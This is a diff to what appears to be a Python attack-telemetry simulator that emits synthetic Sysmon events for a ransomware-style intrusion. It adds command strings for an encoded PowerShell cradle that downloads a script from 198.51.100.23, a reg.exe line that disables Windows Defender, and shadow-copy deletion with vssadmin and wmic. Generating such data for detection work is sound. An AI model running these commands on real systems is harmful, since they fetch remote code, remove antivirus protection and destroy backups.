@@ -261,9 +261,23 @@ def attack(w: World) -> tuple[list[Attack], list[Containment]]:
     fetch = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/s.ps1')"
     encoded = base64.b64encode(fetch.encode("utf-16-le")).decode()
     c.step("Tool download with encoded PowerShell", "execution", "T1059.001", t, beachhead)
-    c.run(
+    ps = c.run(
         beachhead, cmd, t, POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded}", victim, lid
     )
+    if beachhead.sysmon:
+        w.win(
+            beachhead,
+            SYSMON,
+            t + 1.5,
+            windows.sysmon_network(
+                t + 1.5,
+                beachhead,
+                ps,
+                src_port=rng.randrange(49152, 65535),
+                dst_ip=ATTACKER_IP,
+                dst_port=80,
+            ),
+        )
     session(
         w,
         rng,
@@ -375,11 +389,34 @@ def attack(w: World) -> tuple[list[Attack], list[Containment]]:
         "T1490",
         t,
         (files or [dc])[0],
-        "vssadmin, wmic, bcdedit, wbadmin on the file and backup servers",
+        "Defender disabled by policy, then vssadmin, wmic, bcdedit, wbadmin on the file and"
+        " backup servers",
     )
     for host in files + backup:
         services = w.system_process(host, SERVICES)
         shell_svc = c.run_system(host, services, t, CMD, "cmd.exe /Q /c C:\\Windows\\Temp\\x.bat")
+        # Defender off first, through the policy keys, so nothing stops the encryptor.
+        reg = c.run_system(
+            host,
+            shell_svc,
+            t + 0.5,
+            "C:\\Windows\\System32\\reg.exe",
+            'reg.exe add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" '
+            "/v DisableAntiSpyware /t REG_DWORD /d 1 /f",
+        )
+        if host.sysmon:
+            w.win(
+                host,
+                SYSMON,
+                t + 0.6,
+                windows.sysmon_registry_set(
+                    t + 0.6,
+                    host,
+                    reg,
+                    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
+                    "DWORD (0x00000001)",
+                ),
+            )
         for image, line in (
             ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
             ("wbem\\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive"),
